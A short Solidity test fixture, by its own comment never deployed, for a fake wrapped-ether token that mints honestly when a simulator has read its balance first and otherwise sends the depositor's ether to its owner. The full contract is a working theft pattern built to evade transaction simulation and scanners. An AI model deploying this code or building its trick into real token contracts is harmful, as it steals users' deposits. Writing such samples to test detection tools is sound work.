// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// A wrapped-ether look-alike that tells a simulation by its reads (a test fixture the devnet does not deploy):
/// `balanceOf` writes a flag, so a scanner whose reads before the transactions may write state sets it, and a deposit
/// then mints honestly. Mined, no transaction ever read a balance of it: the deposit goes to its owner, nothing minted.
contract WatchedWrapper {
    string public constant name = "Wrapped Gift";
    string public constant symbol = "WGIFT";
    uint8 public constant decimals = 18;
    address payable private immutable owner;
    bool private watched;
    uint256 public totalSupply;
    mapping(address => uint256) private balances;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor() {
        owner = payable(msg.sender);
    }

    function balanceOf(address account) external returns (uint256) {
        watched = true;
        return balances[account];
    }

    function deposit() external payable {
        if (!watched) {
            owner.transfer(msg.value);
            return;
        }
        balances[msg.sender] += msg.value;
        totalSupply += msg.value;
        emit Transfer(address(0), msg.sender, msg.value);
    }
}
